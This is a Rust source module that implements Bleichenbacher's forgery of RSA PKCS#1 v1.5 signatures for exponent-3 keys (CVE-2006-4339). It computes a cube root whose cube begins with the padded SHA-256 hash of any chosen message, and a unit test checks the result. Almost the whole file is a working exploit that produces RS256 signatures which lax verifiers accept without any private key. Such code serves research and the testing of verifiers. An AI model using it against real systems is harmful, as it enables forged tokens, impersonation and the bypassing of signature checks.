//! A signature that no private key made: Bleichenbacher's, for keys whose exponent is three.

use rsa::BoxedUint;
use sha2::{Digest as _, Sha256};

/// The length of a 2048-bit modulus, in bytes.
const LENGTH: usize = 256;
/// What PKCS#1 v1.5 puts before a SHA-256 (RFC 8017, 9.2).
const DIGEST_INFO: [u8; 19] = [
    0x30, 0x31, 0x30, 0x0d, 0x06, 0x09, 0x60, 0x86, 0x48, 0x01, 0x65, 0x03, 0x04, 0x02, 0x01, 0x05,
    0x00, 0x04, 0x20,
];
/// The cube root of a block that begins with 00 01 is below 2^678.
const ROOT_BITS: usize = 678;

/// Makes a number whose cube begins as the padded hash of a message does; what stands behind the hash is garbage.
///
/// A verifier takes it for an RS256 signature of a 2048-bit key with the exponent 3 if it does not see to it that nothing
/// follows the hash (CVE-2006-4339). The cube is smaller than any modulus of that length, so the key does not matter.
pub(crate) fn for_exponent_three(message: &[u8]) -> Option<Vec<u8>> {
    let start = start(message);
    let mut block = start.clone();
    block.resize(LENGTH, 0);
    let block = number(&block)?;
    let mut root = [0; LENGTH];
    for bit in (0..ROOT_BITS).rev() {
        let (byte, mask) = (LENGTH - 1 - bit / 8, 1 << (bit % 8));
        root[byte] |= mask;
        if cube(&root)? > block {
            root[byte] ^= mask;
        }
    }
    // The next number's cube is larger than the block by less than what stands behind the hash has room for.
    let above = super::one_more(&root);
    cube(&above)?
        .to_be_bytes()
        .starts_with(&start)
        .then_some(above)
}

/// Returns the block up to its hash, with as little padding as some verifiers ask for (RFC 8017, 9.2).
fn start(message: &[u8]) -> Vec<u8> {
    let hash = Sha256::digest(message);
    [&[0, 1], &[0xff; 8][..], &[0], &DIGEST_INFO, &hash].concat()
}

fn number(bytes: &[u8]) -> Option<BoxedUint> {
    BoxedUint::from_be_slice(bytes, 8 * LENGTH as u32).ok()
}

fn cube(bytes: &[u8]) -> Option<BoxedUint> {
    let number = number(bytes)?;
    Some(number.wrapping_mul(&number).wrapping_mul(&number))
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, reason = "tests")]

    use super::{LENGTH, cube, for_exponent_three, start};

    #[test]
    fn the_cube_begins_with_the_padded_hash() {
        for message in [&b"message"[..], b"another", b""] {
            let forged = for_exponent_three(message).unwrap();
            assert_eq!(forged.len(), LENGTH);
            let block = cube(&forged).unwrap().to_be_bytes();
            assert!(block.starts_with(&start(message)));
        }
    }
}
